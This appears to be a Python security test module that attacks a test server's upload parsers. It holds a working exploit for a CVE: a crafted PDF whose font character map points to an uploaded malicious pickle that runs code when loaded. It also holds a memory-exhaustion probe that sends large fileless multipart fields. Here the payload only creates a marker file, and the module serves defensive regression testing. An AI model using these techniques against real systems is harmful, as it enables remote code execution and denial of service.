"""Sending what the server's parsers do harm with."""

import gzip
import pickle
import secrets
from typing import Any
from urllib.parse import quote

from tests.agentfabric.attacker import form
from tests.agentfabric.attacks.visitor import begin, chat
from tests.agentfabric.target import Target


def pickle_in_a_pdf(target: Target) -> bool:
    """CVE-2025-64512: a PDF names another upload as its character map, and its code is run."""
    trace = target.room / f"ran-{secrets.token_hex(4)}"
    begin(target.attacker)
    path = target.attacker.upload("evil.pickle.gz", gzip.compress(pickle.dumps(Evil(str(trace)))))
    encoding = quote(path.removesuffix(".pickle.gz"), safe="").replace("%", "#")
    document = target.attacker.upload("evil.pdf", pdf(encoding))
    chat(target.attacker, [], [{"path": document}])
    return trace.exists()


def upload_without_a_file(target: Target) -> bool:
    """As CVE-2024-47874: fields that are no files are collected in memory."""
    body, headers = form("a.txt", b"a" * 1_000_000)
    return target.attacker.ask(
        "POST", "/upload", body.replace(b'; filename="a.txt"', b""), headers
    ).status in (200, 500)


class Evil:
    """Writes a file when it is unpickled."""

    def __init__(self, path: str) -> None:
        self._path = path

    def __reduce__(self) -> Any:
        return open, (self._path, "w")


def pdf(encoding: str) -> bytes:
    """A page with a letter in a font whose character map is ``encoding``."""
    text = b"BT /F1 12 Tf 10 10 Td <0041> Tj ET"
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R"
        b"/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(text), text),
        b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/%s/DescendantFonts[6 0 R]>>"
        % encoding.encode(),
        b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/FontDescriptor<</Type/FontDescriptor>>"
        b"/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>>>",
    ]
    body, offsets = b"%PDF-1.4\n", []
    for number, each in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    return body + (
        b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF"
        % (size, table, size, len(body))
    )


ATTACKS = [
    pickle_in_a_pdf,
    upload_without_a_file,
]
